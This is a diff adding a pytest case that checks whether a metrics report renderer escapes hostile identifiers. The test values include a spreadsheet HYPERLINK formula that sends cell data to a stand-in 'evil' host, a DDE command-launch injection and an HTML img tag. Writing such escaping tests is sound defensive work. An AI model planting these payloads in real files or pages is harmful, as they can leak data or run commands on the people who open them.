@@ -183,6 +183,21 @@ class TestRender:
         assert "\x00" not in written
         written.encode("utf-8")
 
+    @pytest.mark.parametrize(
+        "name", ['=HYPERLINK("http://evil/?"&A1,"<b>open</b>")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1<img src=x>", "-2+3&#61;"]
+    )
+    def test_ids_like_formulas_are_text_in_every_table(self, metrics, curves, name):
+        hostile = copy.deepcopy(metrics)
+        hostile["slices"][f"item/{name}"] = {"student": {"rows": 5, "auc": interval(0.6)}}
+        hostile["gate"]["checks"] = [{"name": name, "value": 0.1, "bound": name, "passed": False, "champion": 0.2}]
+        hostile["models"]["student"]["report"] = {name: {"precision": 0.5, "recall": 0.5, "f1": 0.5, "support": 9}}
+        written = render(hostile, curves)
+        page, clean = Page(written), Page(render(metrics, curves))
+        assert page.text.count(name) >= 3
+        assert set(page.tags) <= set(clean.tags)
+        assert {attribute for attribute, _ in page.attributes} <= {attribute for attribute, _ in clean.attributes}
+        assert "evil" not in "".join(str(value) for attribute, value in page.attributes if attribute in ("href", "src"))
+
     def test_hostile_names_never_become_classes(self, metrics):
         hostile = metrics | {"models": {"wide tile": {"auc": interval(0.7)}}}
         classes = {value for name, value in Page(render(hostile)).attributes if name == "class"}
